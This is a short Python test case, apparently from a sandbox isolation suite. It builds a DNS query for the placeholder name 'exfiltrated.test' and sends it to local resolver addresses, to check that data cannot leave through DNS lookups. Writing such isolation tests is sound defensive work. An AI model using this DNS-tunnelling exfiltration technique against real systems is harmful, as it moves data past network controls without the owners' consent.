# SPDX-License-Identifier: Apache-2.0
# class: D18
# tries: carry data out in names asked of a DNS server
# ENETUNREACH: network namespace
# bare: yes
query = b"\x12\x34\x01\0\0\1\0\0\0\0\0\0\x09exfiltrated\x04test\0\0\1\0\1"
for address in (("127.0.0.1", HOST["udp"]), ("127.0.0.53", 53)):
    attempt("ask", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query, address))
